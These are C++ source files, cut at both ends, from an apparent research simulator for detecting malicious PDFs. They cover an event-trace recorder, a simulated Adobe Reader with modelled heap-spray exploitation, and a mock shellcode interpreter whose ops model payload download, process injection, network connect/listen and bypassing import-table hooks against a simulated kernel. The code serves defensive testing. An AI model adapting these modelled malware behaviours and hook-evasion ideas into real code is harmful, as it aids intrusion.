  std::chrono::steady_clock::time_point epoch_;
  mutable std::mutex ctx_mutex_;  ///< guards doc_
  std::string doc_;
};

}  // namespace pdfshield::trace
