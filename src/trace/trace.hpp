// The trace spine: one typed event stream for everything observable on the
// paper's detection path (Fig. 4). Hooked API calls, SOAP channel traffic,
// JS-context envelopes, front-end phase spans, detector feature fires,
// confinement actions and verdicts all become `trace::Event`s, so a single
// stream — correlated by (session, doc) ids — can reproduce the runtime
// report, the Table-X timing breakdown, and a zero-tolerance audit trail.
//
// Events are a tagged union (std::variant payload); the variant index IS
// the Kind, so adding a payload type means extending both in lock-step
// (static_asserts below enforce it).
#pragma once

#include <cstdint>
#include <string>
#include <string_view>
#include <variant>
#include <vector>

namespace pdfshield::trace {

/// Event taxonomy. Must mirror the Payload variant order exactly.
enum class Kind : std::size_t {
  kApiCall = 0,    ///< hooked API invocation seen by the kernel dispatcher
  kHookVerdict,    ///< a hook chain rejected a call
  kSoapMessage,    ///< context-monitoring SOAP traffic (incl. forgeries)
  kJsContext,      ///< authenticated JS-context ENTER/EXIT envelope
  kPhaseSpan,      ///< front-end pipeline phase begin/end
  kFeatureFire,    ///< an Eq.-1 feature turned positive for a document
  kConfinement,    ///< Table-III action (quarantine / sandbox / veto / kill)
  kDocVerdict,     ///< per-document verdict snapshot (alert or final score)
  kCounter,        ///< free-form counter sample
  kAdmission,      ///< serve-mode admission decision (accept / reject)
  kDegradation,    ///< serve-mode degradation ladder transition
};
inline constexpr std::size_t kKindCount = 11;

/// One intercepted API call (pre-call view, same data the hooks see).
struct ApiCall {
  int pid = 0;
  std::string api;
  std::vector<std::string> args;
  std::uint64_t memory_bytes = 0;
  bool post = false;  ///< true for the post-native notification phase
};

/// A hook chain blocked `api` (the native implementation did not run).
struct HookVerdict {
  std::string api;
  bool blocked = false;
};

/// One SOAP message as classified by the detector (§III-C / §IV).
struct SoapMessage {
  std::string op;             ///< "enter", "exit", or the forged text
  bool authenticated = false; ///< key matched a registered document
  bool foreign = false;       ///< well-formed key of another installation
};

/// Authenticated JS-context envelope transition.
struct JsContext {
  bool enter = false;  ///< true = ENTER, false = EXIT
  std::uint64_t memory_bytes = 0;  ///< reader working set at the transition
};

/// Front-end pipeline phase (parse-decompress / feature-extraction /
/// instrumentation). The end event carries the measured wall time.
struct PhaseSpan {
  std::string phase;
  bool begin = false;
  double elapsed_s = 0;  ///< 0 on begin events
};

/// An Eq.-1 feature fired for the correlated document.
struct FeatureFire {
  std::string feature;  ///< core::feature_name() text, e.g. "F12:..."
  std::string why;
  bool in_js = false;   ///< true for F8–F13 (second summand of Eq. 1)
};

/// A Table-III confinement action taken by the detector.
struct Confinement {
  std::string action;  ///< "quarantine" | "sandbox" | "veto" | "terminate"
  std::string target;  ///< path / image / dll
};

/// Verdict snapshot for the correlated document.
struct DocVerdict {
  std::string verdict;   ///< "malicious" | "benign" | "suspicious-static" | "clean-static"
  double malscore = 0;
  bool alerted = false;
};

/// Free-form counter sample (dropped events, cache sizes, ...).
struct CounterSample {
  std::string counter;
  std::uint64_t value = 0;
};

/// Serve-mode admission decision for the correlated document. Rejections
/// carry the reason the client saw ("overloaded", "oversized"), so the
/// trace accounts for every request the service shed, not just the ones
/// it scanned.
struct Admission {
  bool accepted = false;
  std::string reason;  ///< empty when accepted
  std::uint64_t inflight_docs = 0;   ///< admitted-but-unfinished documents
  std::uint64_t inflight_bytes = 0;  ///< admitted-but-unfinished payload
};

/// Serve-mode degradation ladder transition: the service entered (or left)
/// static-only degradation because the detonation backlog crossed a
/// threshold. Verdict-neutral by construction — degradation only lets
/// statically *proven-clean* documents skip detonation — but every
/// transition is on the record so a replayed trace explains why a given
/// document carries a static-skip instead of runtime events.
struct Degradation {
  bool entered = false;  ///< true = entering degraded mode, false = restored
  std::uint64_t queue_depth = 0;  ///< scheduler backlog at the transition
};

using Payload = std::variant<ApiCall, HookVerdict, SoapMessage, JsContext,
                             PhaseSpan, FeatureFire, Confinement, DocVerdict,
                             CounterSample, Admission, Degradation>;

static_assert(std::variant_size_v<Payload> == kKindCount);
static_assert(std::is_same_v<std::variant_alternative_t<
                  static_cast<std::size_t>(Kind::kApiCall), Payload>, ApiCall>);
static_assert(std::is_same_v<std::variant_alternative_t<
                  static_cast<std::size_t>(Kind::kCounter), Payload>,
              CounterSample>);

/// One event on the spine. `session` correlates everything recorded by one
/// deployment (detector id / batch run); `doc` correlates a document's
/// events across layers (front-end spans, SOAP traffic, feature fires).
struct Event {
  std::uint64_t seq = 0;   ///< per-recorder monotonic sequence number
  std::uint64_t t_ns = 0;  ///< steady-clock ns since the recorder's epoch
  std::string session;
  std::string doc;
  Payload payload;

  Kind kind() const { return static_cast<Kind>(payload.index()); }
};

/// Stable kind name used in JSONL output ("api-call", "phase-span", ...).
std::string_view kind_name(Kind kind);

/// Serializes one event as a single compact JSON line (no trailing
/// newline). Hand-rolled — this sits on the batch hot path, where the
/// <10 % tracing-overhead budget rules out building a Json tree per event.
std::string to_jsonl(const Event& event);

/// Appends `text` as a JSON string literal (quotes + escapes) to `out`.
void append_json_string(std::string& out, std::string_view text);

}  // namespace pdfshield::trace
