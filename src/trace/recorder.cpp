#include "trace/recorder.hpp"

#include <fstream>

#include "support/error.hpp"

namespace pdfshield::trace {

// ---------------------------------------------------------------------------
// RingSink
// ---------------------------------------------------------------------------

RingSink::RingSink(std::size_t capacity) : capacity_(capacity) {
  ring_.reserve(capacity_);
}

void RingSink::on_event(const Event& event) {
  std::lock_guard<std::mutex> lock(mutex_);
  if (ring_.size() < capacity_) {
    ring_.push_back(event);
  } else if (capacity_ > 0) {
    ring_[total_ % capacity_] = event;
  }
  ++total_;
}

std::vector<Event> RingSink::snapshot() const {
  std::lock_guard<std::mutex> lock(mutex_);
  if (total_ <= capacity_ || capacity_ == 0) return ring_;
  // The slot the next event would overwrite holds the oldest entry.
  std::vector<Event> out;
  out.reserve(ring_.size());
  const std::size_t head = total_ % capacity_;
  for (std::size_t i = 0; i < ring_.size(); ++i) {
    out.push_back(ring_[(head + i) % capacity_]);
  }
  return out;
}

std::size_t RingSink::size() const {
  std::lock_guard<std::mutex> lock(mutex_);
  return ring_.size();
}

std::uint64_t RingSink::dropped() const {
  std::lock_guard<std::mutex> lock(mutex_);
  return total_ > capacity_ ? total_ - capacity_ : 0;
}

// ---------------------------------------------------------------------------
// JsonlSink
// ---------------------------------------------------------------------------

JsonlSink::JsonlSink(std::ostream& out) : out_(&out) {}

std::shared_ptr<JsonlSink> JsonlSink::open(const std::string& path) {
  auto stream = std::make_unique<std::ofstream>(path, std::ios::binary);
  if (!*stream) throw support::Error("cannot write trace file " + path);
  auto sink = std::shared_ptr<JsonlSink>(new JsonlSink());
  sink->out_ = stream.get();
  sink->owned_ = std::move(stream);
  return sink;
}

void JsonlSink::on_event(const Event& event) {
  const std::string line = to_jsonl(event);  // serialize outside the lock
  std::lock_guard<std::mutex> lock(mutex_);
  *out_ << line << '\n';
  ++lines_;
}

std::uint64_t JsonlSink::lines_written() const {
  std::lock_guard<std::mutex> lock(mutex_);
  return lines_;
}

// ---------------------------------------------------------------------------
// CounterSink
// ---------------------------------------------------------------------------

void CounterSink::on_event(const Event& event) {
  counts_[static_cast<std::size_t>(event.kind())].fetch_add(
      1, std::memory_order_relaxed);
}

std::uint64_t CounterSink::count(Kind kind) const {
  return counts_[static_cast<std::size_t>(kind)].load(
      std::memory_order_relaxed);
}

std::uint64_t CounterSink::total() const {
  std::uint64_t sum = 0;
  for (const auto& c : counts_) sum += c.load(std::memory_order_relaxed);
  return sum;
}

// ---------------------------------------------------------------------------
// CounterSnapshot
// ---------------------------------------------------------------------------

support::Json CounterSnapshot::to_json() const {
  support::Json j = support::Json::object();
  j["events"] = total;
  j["dropped"] = dropped;
  support::Json kinds = support::Json::object();
  for (std::size_t i = 0; i < kKindCount; ++i) {
    if (by_kind[i] == 0) continue;
    kinds[std::string(kind_name(static_cast<Kind>(i)))] = by_kind[i];
  }
  j["by_kind"] = std::move(kinds);
  return j;
}

std::string CounterSnapshot::summary() const {
  std::string out = std::to_string(total) + " event(s)";
  bool first = true;
  for (std::size_t i = 0; i < kKindCount; ++i) {
    if (by_kind[i] == 0) continue;
    out += first ? " (" : ", ";
    first = false;
    out += std::string(kind_name(static_cast<Kind>(i))) + " " +
           std::to_string(by_kind[i]);
  }
  if (!first) out += ")";
  out += ", " + std::to_string(dropped) + " dropped";
  return out;
}

// ---------------------------------------------------------------------------
// Recorder
// ---------------------------------------------------------------------------

Recorder::Recorder(std::string session, std::size_t ring_capacity)
    : session_(std::move(session)),
      epoch_(std::chrono::steady_clock::now()) {
  if (ring_capacity > 0) {
    ring_ = std::make_shared<RingSink>(ring_capacity);
    sinks_.push_back(ring_);
  }
}

void Recorder::add_sink(std::shared_ptr<Sink> sink) {
  if (sink) sinks_.push_back(std::move(sink));
}

void Recorder::set_session(std::string session) {
  session_ = std::move(session);
}

void Recorder::set_doc(std::string doc) {
  std::lock_guard<std::mutex> lock(ctx_mutex_);
  doc_ = std::move(doc);
}

std::string Recorder::doc() const {
  std::lock_guard<std::mutex> lock(ctx_mutex_);
  return doc_;
}

void Recorder::record(Payload payload) {
  emit(doc(), std::move(payload));
}

void Recorder::record_for(std::string doc, Payload payload) {
  emit(std::move(doc), std::move(payload));
}

void Recorder::emit(std::string doc, Payload payload) {
  Event event;
  event.seq = seq_.fetch_add(1, std::memory_order_relaxed);
  event.t_ns = static_cast<std::uint64_t>(
      std::chrono::duration_cast<std::chrono::nanoseconds>(
          std::chrono::steady_clock::now() - epoch_)
          .count());
  event.session = session_;
  event.doc = std::move(doc);
  event.payload = std::move(payload);
  counts_[static_cast<std::size_t>(event.kind())].fetch_add(
      1, std::memory_order_relaxed);
  for (const auto& sink : sinks_) sink->on_event(event);
}

std::vector<Event> Recorder::events() const {
  return ring_ ? ring_->snapshot() : std::vector<Event>{};
}

std::uint64_t Recorder::ring_dropped() const {
  return ring_ ? ring_->dropped() : 0;
}

CounterSnapshot Recorder::counters() const {
  CounterSnapshot snap;
  for (std::size_t i = 0; i < kKindCount; ++i) {
    snap.by_kind[i] = counts_[i].load(std::memory_order_relaxed);
    snap.total += snap.by_kind[i];
  }
  snap.dropped = ring_dropped();
  return snap;
}

}  // namespace pdfshield::trace
