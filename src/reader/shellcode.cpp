#include "reader/shellcode.hpp"

#include <cstdlib>

#include "support/strings.hpp"

namespace pdfshield::reader {

namespace {
constexpr const char* kMarker = "SC{";
}

std::string encode_shellcode(const ShellcodeProgram& program) {
  std::string out = kMarker;
  for (std::size_t i = 0; i < program.ops.size(); ++i) {
    if (i) out.push_back(';');
    out += program.ops[i].op;
    if (!program.ops[i].args.empty()) {
      out.push_back(':');
      for (std::size_t a = 0; a < program.ops[i].args.size(); ++a) {
        if (a) out.push_back('>');
        out += program.ops[i].args[a];
      }
    }
  }
  out.push_back('}');
  return out;
}

std::optional<ShellcodeProgram> extract_shellcode(const std::string& memory) {
  const std::size_t start = memory.find(kMarker);
  if (start == std::string::npos) return std::nullopt;
  const std::size_t body_start = start + 3;
  const std::size_t end = memory.find('}', body_start);
  if (end == std::string::npos) return std::nullopt;

  ShellcodeProgram program;
  for (const std::string& chunk :
       support::split(memory.substr(body_start, end - body_start), ';')) {
    if (chunk.empty()) continue;
    ShellcodeOp op;
    const std::size_t colon = chunk.find(':');
    if (colon == std::string::npos) {
      op.op = chunk;
    } else {
      op.op = chunk.substr(0, colon);
      const std::string rest = chunk.substr(colon + 1);
      for (auto& part : support::split(rest, '>')) op.args.push_back(part);
    }
    program.ops.push_back(std::move(op));
  }
  if (program.ops.empty()) return std::nullopt;
  return program;
}

std::size_t execute_shellcode(sys::Kernel& kernel, int pid,
                              const ShellcodeProgram& program) {
  std::size_t calls = 0;
  auto arg = [](const ShellcodeOp& op, std::size_t i) -> std::string {
    return i < op.args.size() ? op.args[i] : std::string();
  };

  for (const ShellcodeOp& raw_op : program.ops) {
    ShellcodeOp op = raw_op;
    // '!' prefix: resolve the routine directly, bypassing the import table
    // (and thus any IAT hooks) — only kernel-mode hooks still fire.
    sys::Kernel::CallPath path = sys::Kernel::CallPath::kImportTable;
    if (!op.op.empty() && op.op[0] == '!') {
      path = sys::Kernel::CallPath::kDirect;
      op.op.erase(0, 1);
    }
    auto call = [&](const std::string& api, std::vector<std::string> args) {
      kernel.call_api(pid, api, std::move(args), path);
      ++calls;
    };

    if (op.op == "DROP") {
      call("URLDownloadToFile", {arg(op, 0), arg(op, 1)});
    } else if (op.op == "WRITE") {
      call("NtCreateFile", {arg(op, 0), arg(op, 1)});
    } else if (op.op == "EXEC") {
      call("NtCreateProcess", {arg(op, 0)});
    } else if (op.op == "INJECT") {
      std::string target = arg(op, 0);
      if (target == "*") {
        // Pick any other live process (explorer.exe style target).
        for (const auto& [other_pid, proc] : kernel.processes()) {
          if (other_pid != pid && !proc->terminated()) {
            target = std::to_string(other_pid);
            break;
          }
        }
      }
      call("CreateRemoteThread", {target, arg(op, 1)});
    } else if (op.op == "HUNT") {
      static const char* kHuntApis[] = {"NtAccessCheckAndAuditAlarm",
                                        "IsBadReadPtr", "NtDisplayString",
                                        "NtAddAtom"};
      const int n = std::max(1, std::atoi(arg(op, 0).c_str()));
      for (int i = 0; i < n; ++i) {
        call(kHuntApis[i % 4], {"probe-" + std::to_string(i)});
      }
    } else if (op.op == "CONNECT") {
      call("connect", {arg(op, 0), arg(op, 1)});
    } else if (op.op == "LISTEN") {
      call("listen", {arg(op, 0)});
    }
    // Unknown ops are ignored (forward compatibility of the wire format).
  }
  return calls;
}

}  // namespace pdfshield::reader
