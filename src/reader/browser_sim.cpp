#include "reader/browser_sim.hpp"

namespace pdfshield::reader {

BrowserSim::BrowserSim(sys::Kernel& kernel, BrowserConfig config)
    : kernel_(kernel), config_(std::move(config)) {
  sys::Process& proc = kernel_.create_process(config_.browser_image);
  pid_ = proc.pid();
  proc.alloc(config_.base_memory);
  ReaderConfig viewer_config = config_.viewer;
  viewer_config.base_memory = 0;  // the browser already holds the baseline
  viewer_ = std::make_unique<ReaderSim>(kernel_, viewer_config, pid_);
}

sys::Process& BrowserSim::process() {
  sys::Process* p = kernel_.process(pid_);
  if (!p) throw support::SysError("browser process vanished");
  return *p;
}

void BrowserSim::open_web_page(const std::string& url) {
  ++tabs_;
  process().alloc(config_.page_memory);
  // Ordinary page load: a handful of subresource fetches...
  for (int i = 0; i < 3; ++i) {
    kernel_.call_api(pid_, "connect", {url, "443"});
  }
  // ...and, every few tabs, a sandboxed renderer helper — the background
  // process noise §VI warns about. Helpers are on the detector whitelist.
  if (++helper_counter_ % 3 == 0) {
    kernel_.call_api(pid_, "NtCreateProcess", {"browser-helper.exe"});
  }
}

OpenResult BrowserSim::open_pdf(support::BytesView file, const std::string& name) {
  ++tabs_;
  return viewer_->open_document(file, name);
}

OpenResult BrowserSim::open_pdf_streaming(support::BytesView file,
                                          const std::string& name, int chunks) {
  ++tabs_;
  if (chunks < 1) chunks = 1;
  ReaderSim::StreamState state;
  OpenResult merged;
  merged.name = name;
  for (int c = 1; c <= chunks; ++c) {
    const std::size_t upto = file.size() * static_cast<std::size_t>(c) /
                             static_cast<std::size_t>(chunks);
    const bool final_chunk = c == chunks;
    OpenResult r = viewer_->open_document_partial(file.subspan(0, upto), name,
                                                  state, final_chunk);
    merged.parsed = merged.parsed || r.parsed;
    merged.js_ran = merged.js_ran || r.js_ran;
    merged.crashed = merged.crashed || r.crashed;
    merged.scripts_executed += r.scripts_executed;
    merged.js_reported_bytes += r.js_reported_bytes;
    for (auto& cve : r.fired_cves) merged.fired_cves.push_back(cve);
    for (auto& cve : r.attempted_cves) merged.attempted_cves.push_back(cve);
    if (merged.crashed) break;  // the tab (process) is gone
  }
  return merged;
}

}  // namespace pdfshield::reader
