// Single-threaded PDF reader simulator (the Adobe Reader 8/9 stand-in).
//
// Behavioural contract with the rest of the system:
//  * parses documents tolerantly (malformed regions are skipped);
//  * charges per-document render memory to its process, with the cache
//    optimisation quirk observed in the paper's Fig. 8;
//  * walks trigger actions (/OpenAction, /AA, /Names Javascript tree) and
//    executes their Javascript — including /Next chains — one document at a
//    time (PDF readers are single-threaded, §III-D);
//  * surfaces the Acrobat API via jsapi; dynamically added and delayed
//    scripts are queued and run after the main scripts;
//  * models exploitation: a vulnerability fires only if this reader
//    version is affected; a control-flow hijack succeeds only if the
//    document's Javascript sprayed enough heap AND a sprayed payload
//    carries shellcode — otherwise the process crashes;
//  * render-context exploits (Flash/CoolType/U3D/TIFF/JBIG2) fire after
//    Javascript has exited (out-of-JS-context behaviour).
#pragma once

#include <cstdint>
#include <map>
#include <memory>
#include <set>
#include <string>
#include <vector>

#include "js/interp.hpp"
#include "jsapi/acrobat_api.hpp"
#include "pdf/document.hpp"
#include "sys/kernel.hpp"

namespace pdfshield::reader {

struct ReaderConfig {
  std::string version = "9.0";
  /// Baseline process working set (reported bytes).
  std::uint64_t base_memory = 30ull * 1024 * 1024;
  /// Per-document render memory: fixed + factor * file size.
  std::uint64_t per_doc_fixed_memory = 5ull * 1024 * 1024;
  double per_doc_memory_factor = 2.0;
  /// Fig. 8 quirk: when total render cache exceeds this, the reader
  /// compacts cached document memory once (0 disables).
  std::uint64_t cache_optimization_threshold = 0;
  /// JS allocation scale (physical byte -> reported bytes), see DESIGN.md.
  std::uint64_t memory_scale = 64;
  /// Step budget per script (runaway protection).
  std::uint64_t js_step_limit = 20'000'000;
  /// Seed for the per-document JS engines (Math.random determinism).
  std::uint64_t js_seed = 0x5EED;
};

/// Outcome of opening one document.
struct OpenResult {
  std::string name;
  bool parsed = false;
  bool js_ran = false;                      ///< at least one script executed
  bool crashed = false;                     ///< reader crashed on this doc
  std::vector<std::string> fired_cves;      ///< exploits that actually fired
  std::vector<std::string> attempted_cves;  ///< attempts incl. version misses
  std::uint64_t js_reported_bytes = 0;      ///< JS memory charged by this doc
  std::size_t scripts_executed = 0;
};

class ReaderSim {
 public:
  ReaderSim(sys::Kernel& kernel, ReaderConfig config = {});
  /// Attaches to an existing process instead of spawning AcroRd32.exe —
  /// used by the in-browser viewer, whose plugin runs inside the browser
  /// process.
  ReaderSim(sys::Kernel& kernel, ReaderConfig config, int existing_pid);
  ~ReaderSim();

  int pid() const { return pid_; }
  sys::Process& process();
  int major_version() const;

  /// Parses and "opens" a document: charges render memory, runs triggered
  /// Javascript, then renders (out-of-JS exploit window). Never throws on
  /// malicious/malformed content; inspect the result instead.
  OpenResult open_document(support::BytesView file, const std::string& name);

  /// Progressive-rendering support (in-browser viewers, §VI): opens a
  /// *prefix* of a still-downloading document. Scripts already executed in
  /// an earlier chunk (tracked in `state` by content hash) are not re-run;
  /// the render phase (embedded Flash/font content) only happens on the
  /// final chunk, when that content has fully arrived.
  struct StreamState {
    std::set<std::uint64_t> executed_script_hashes;
  };
  OpenResult open_document_partial(support::BytesView file,
                                   const std::string& name, StreamState& state,
                                   bool final_chunk);

  /// Closes one document (releases its render memory).
  void close_document(const std::string& name);
  void close_all();

  std::size_t open_count() const { return docs_.size(); }

  /// Registers the runtime detector's SOAP endpoint: requests to a cURL
  /// starting with `url_prefix` are served by `handler` instead of the
  /// network. (The paper's tiny SOAP server.)
  using SoapHandler = std::function<js::Value(const js::Value& payload)>;
  void set_soap_endpoint(std::string url_prefix, SoapHandler handler);

  /// Invoked when the reader process crashes (the detector's hook channel
  /// observes the disconnect and finalizes in-flight JS-context state).
  std::function<void()> on_crash;

  /// Forwarded into each document's JS interpreter: fires with the source
  /// string of every `eval(string)` the engine evaluates. Set before
  /// open_document; used by the jsstatic differential test.
  std::function<void(const std::string&)> on_eval;

  const ReaderConfig& config() const { return config_; }

 private:
  struct OpenDoc;
  class DocHost;

  void run_action_chain(OpenDoc& doc, const pdf::Object& action_obj,
                        OpenResult& result);
  void run_script(OpenDoc& doc, const std::string& source, OpenResult& result);
  void drain_pending_scripts(OpenDoc& doc, OpenResult& result);
  void render_phase(OpenDoc& doc, OpenResult& result);
  void handle_exploit_attempt(OpenDoc& doc, const std::string& cve,
                              OpenResult& result);
  void maybe_compact_cache();

  sys::Kernel& kernel_;
  ReaderConfig config_;
  int pid_;
  std::map<std::string, std::unique_ptr<OpenDoc>> docs_;
  /// Embedded PDFs queued for opening (exportDataObject nLaunch>=2).
  std::vector<std::pair<std::string, support::Bytes>> pending_embedded_;
  int embed_depth_ = 0;
  /// Streaming-open state for the current open_document call (null when
  /// the document arrived complete).
  StreamState* stream_state_ = nullptr;
  bool render_enabled_ = true;
  std::string soap_prefix_;
  SoapHandler soap_handler_;
  std::uint64_t render_cache_bytes_ = 0;
  bool cache_compacted_ = false;
  std::uint64_t next_js_seed_;
};

}  // namespace pdfshield::reader
