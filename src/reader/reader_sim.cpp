#include "reader/reader_sim.hpp"

#include <cstdlib>

#include "pdf/crypto.hpp"
#include "pdf/filters.hpp"
#include "pdf/parser.hpp"
#include "reader/shellcode.hpp"
#include "reader/vulnerability.hpp"
#include "support/checksum.hpp"
#include "support/strings.hpp"

namespace pdfshield::reader {

using js::Value;
using support::BytesView;

// ---------------------------------------------------------------------------
// Internal per-document state
// ---------------------------------------------------------------------------

/// HostHooks implementation: routes jsapi callbacks to the reader.
class ReaderSim::DocHost : public jsapi::HostHooks {
 public:
  DocHost(ReaderSim& reader, OpenDoc& doc) : reader_(reader), doc_(doc) {}

  void exploit_attempt(const std::string& cve) override;
  void script_added(const std::string& name, const std::string& source) override;
  void script_delayed(const std::string& source, double millis) override;
  bool soap_request(const std::string& url, const Value& payload,
                    Value* response) override;
  void open_embedded(const std::string& name,
                     const support::Bytes& data) override;

 private:
  ReaderSim& reader_;
  OpenDoc& doc_;
};

struct ReaderSim::OpenDoc {
  std::string name;
  pdf::Document document;
  std::uint64_t render_memory = 0;
  std::unique_ptr<js::Interpreter> interp;
  std::unique_ptr<DocHost> host;
  std::unique_ptr<jsapi::AcrobatApi> api;
  std::vector<std::string> pending_scripts;  ///< added/delayed scripts
  OpenResult* active_result = nullptr;       ///< set while scripts run
  bool in_js_context = false;
  bool exploited = false;  ///< one successful exploit per doc is enough
};

namespace {

/// Internal signal: the reader process crashed mid-script.
struct ReaderCrash {};

/// Sets the kernel trace doc context for the duration of one
/// open_document call, so hooked API calls made by this document's scripts
/// correlate to it. Saves/restores the previous context — open_document
/// recurses into embedded attachments.
class TraceDocScope {
 public:
  TraceDocScope(trace::Recorder& recorder, const std::string& name)
      : recorder_(recorder), previous_(recorder.doc()) {
    recorder_.set_doc(name);
  }
  ~TraceDocScope() { recorder_.set_doc(previous_); }
  TraceDocScope(const TraceDocScope&) = delete;
  TraceDocScope& operator=(const TraceDocScope&) = delete;

 private:
  trace::Recorder& recorder_;
  std::string previous_;
};

std::string string_or_stream_text(const pdf::Document& doc,
                                  const pdf::Object& obj) {
  const pdf::Object& r = doc.resolve(obj);
  if (r.is_string()) return support::to_string(r.as_string().data);
  if (r.is_stream()) {
    try {
      return support::to_string(pdf::decode_stream(r.as_stream()));
    } catch (const support::Error&) {
      return support::to_string(r.as_stream().data);
    }
  }
  return {};
}

}  // namespace

// ---------------------------------------------------------------------------
// DocHost
// ---------------------------------------------------------------------------

void ReaderSim::DocHost::exploit_attempt(const std::string& cve) {
  if (doc_.active_result) {
    reader_.handle_exploit_attempt(doc_, cve, *doc_.active_result);
  }
}

void ReaderSim::DocHost::script_added(const std::string& /*name*/,
                                      const std::string& source) {
  doc_.pending_scripts.push_back(source);
}

void ReaderSim::DocHost::script_delayed(const std::string& source,
                                        double /*millis*/) {
  // Timers collapse to "runs after the current script" in simulation time.
  doc_.pending_scripts.push_back(source);
}

bool ReaderSim::DocHost::soap_request(const std::string& url,
                                      const Value& payload, Value* response) {
  if (!reader_.soap_handler_ || reader_.soap_prefix_.empty()) return false;
  if (url.rfind(reader_.soap_prefix_, 0) != 0) return false;
  *response = reader_.soap_handler_(payload);
  return true;
}

void ReaderSim::DocHost::open_embedded(const std::string& name,
                                       const support::Bytes& data) {
  // Queued: the reader is single-threaded, so the attachment opens after
  // the current document finishes processing.
  reader_.pending_embedded_.emplace_back(doc_.name + ":" + name, data);
}

// ---------------------------------------------------------------------------
// ReaderSim
// ---------------------------------------------------------------------------

ReaderSim::ReaderSim(sys::Kernel& kernel, ReaderConfig config)
    : kernel_(kernel), config_(std::move(config)), next_js_seed_(config_.js_seed) {
  sys::Process& proc = kernel_.create_process("AcroRd32.exe");
  pid_ = proc.pid();
  proc.alloc(config_.base_memory);
}

ReaderSim::ReaderSim(sys::Kernel& kernel, ReaderConfig config, int existing_pid)
    : kernel_(kernel),
      config_(std::move(config)),
      pid_(existing_pid),
      next_js_seed_(config_.js_seed) {
  if (!kernel_.process(pid_)) {
    throw support::SysError("ReaderSim: no such host process");
  }
}

ReaderSim::~ReaderSim() = default;

sys::Process& ReaderSim::process() {
  sys::Process* p = kernel_.process(pid_);
  if (!p) throw support::SysError("reader process vanished");
  return *p;
}

int ReaderSim::major_version() const {
  return std::atoi(config_.version.c_str());
}

void ReaderSim::set_soap_endpoint(std::string url_prefix, SoapHandler handler) {
  soap_prefix_ = std::move(url_prefix);
  soap_handler_ = std::move(handler);
}

OpenResult ReaderSim::open_document(BytesView file, const std::string& name) {
  OpenResult result;
  result.name = name;
  if (process().crashed()) return result;  // a crashed reader opens nothing
  TraceDocScope trace_scope(kernel_.trace(), name);

  auto doc = std::make_unique<OpenDoc>();
  doc->name = name;
  try {
    doc->document = pdf::parse_document(file);
    // Readers transparently decrypt documents whose user password is empty
    // (the owner-password-only case).
    if (pdf::is_encrypted(doc->document)) {
      pdf::decrypt_document(doc->document, /*user_password=*/"");
    }
    result.parsed = true;
  } catch (const support::Error&) {
    // Unparseable file: Acrobat shows an error dialog; nothing else runs.
    docs_.erase(name);
    return result;
  }

  // Render memory: fixed cost + size-proportional page/cache cost.
  doc->render_memory =
      config_.per_doc_fixed_memory +
      static_cast<std::uint64_t>(config_.per_doc_memory_factor *
                                 static_cast<double>(file.size()));
  process().alloc(doc->render_memory);
  render_cache_bytes_ += doc->render_memory;
  maybe_compact_cache();

  // Fresh Javascript world per document.
  doc->interp = std::make_unique<js::Interpreter>();
  doc->interp->set_step_limit(config_.js_step_limit);
  doc->interp->rng() = support::Rng(next_js_seed_++);
  doc->interp->on_eval = on_eval;
  doc->host = std::make_unique<DocHost>(*this, *doc);

  jsapi::DocFacts facts;
  facts.name = name;
  if (const pdf::Object* info =
          doc->document.resolved_find(doc->document.trailer(), "Info");
      info && info->is_dict()) {
    for (const auto& e : info->as_dict().entries()) {
      const pdf::Object& v = doc->document.resolve(e.value);
      if (v.is_string()) {
        facts.info[std::string(e.key)] = support::to_string(v.as_string().data);
      }
    }
  }
  // Form fields: /AcroForm /Fields [...] with /T (name) and /V (value).
  if (const pdf::Object* cat = doc->document.catalog()) {
    if (const pdf::Object* form =
            doc->document.resolved_find(cat->dict_or_stream_dict(), "AcroForm");
        form && form->is_dict()) {
      if (const pdf::Object* fields =
              doc->document.resolved_find(form->as_dict(), "Fields");
          fields && fields->is_array()) {
        for (const pdf::Object& f : fields->as_array()) {
          const pdf::Object& fr = doc->document.resolve(f);
          if (!fr.is_dict()) continue;
          const pdf::Object* t = doc->document.resolved_find(fr.as_dict(), "T");
          const pdf::Object* v = doc->document.resolved_find(fr.as_dict(), "V");
          if (t && t->is_string()) {
            facts.fields[support::to_string(t->as_string().data)] =
                v && v->is_string() ? support::to_string(v->as_string().data)
                                    : std::string();
          }
        }
      }
    }
  }

  // Embedded file attachments: /Names -> /EmbeddedFiles -> /Names
  // [ (name) filespec-ref ... ] with /EF /F pointing at the data stream.
  if (const pdf::Object* cat2 = doc->document.catalog()) {
    if (const pdf::Object* names =
            doc->document.resolved_find(cat2->dict_or_stream_dict(), "Names");
        names && names->is_dict()) {
      if (const pdf::Object* ef =
              doc->document.resolved_find(names->as_dict(), "EmbeddedFiles");
          ef && ef->is_dict()) {
        if (const pdf::Object* list =
                doc->document.resolved_find(ef->as_dict(), "Names");
            list && list->is_array()) {
          const pdf::Array& arr = list->as_array();
          for (std::size_t i = 0; i + 1 < arr.size(); i += 2) {
            const pdf::Object& key = doc->document.resolve(arr[i]);
            const pdf::Object& spec = doc->document.resolve(arr[i + 1]);
            if (!key.is_string() || !spec.is_dict()) continue;
            const pdf::Object* efd =
                doc->document.resolved_find(spec.as_dict(), "EF");
            if (!efd || !efd->is_dict()) continue;
            const pdf::Object* f = doc->document.resolved_find(efd->as_dict(), "F");
            if (!f || !f->is_stream()) continue;
            support::Bytes data;
            try {
              data = pdf::decode_stream(f->as_stream());
            } catch (const support::Error&) {
              data = f->as_stream().data.copy();
            }
            facts.attachments[support::to_string(key.as_string().data)] =
                std::move(data);
          }
        }
      }
    }
  }

  jsapi::ApiConfig api_config;
  api_config.viewer_version = std::strtod(config_.version.c_str(), nullptr);
  api_config.memory_scale = config_.memory_scale;
  doc->api = std::make_unique<jsapi::AcrobatApi>(*doc->interp, kernel_, pid_,
                                                 *doc->host, std::move(facts),
                                                 api_config);

  OpenDoc& ref = *doc;
  docs_[name] = std::move(doc);

  // --- trigger walk --------------------------------------------------------
  try {
    const pdf::Object* catalog = ref.document.catalog();
    if (catalog) {
      const pdf::Dict& cat = catalog->dict_or_stream_dict();
      if (const pdf::Object* oa = ref.document.resolved_find(cat, "OpenAction")) {
        run_action_chain(ref, *oa, result);
      }
      if (const pdf::Object* aa = ref.document.resolved_find(cat, "AA");
          aa && aa->is_dict()) {
        for (const auto& e : aa->as_dict().entries()) {
          run_action_chain(ref, e.value, result);
        }
      }
      // /Names -> /JavaScript -> /Names [name action name action ...]
      if (const pdf::Object* names = ref.document.resolved_find(cat, "Names");
          names && names->is_dict()) {
        if (const pdf::Object* jstree =
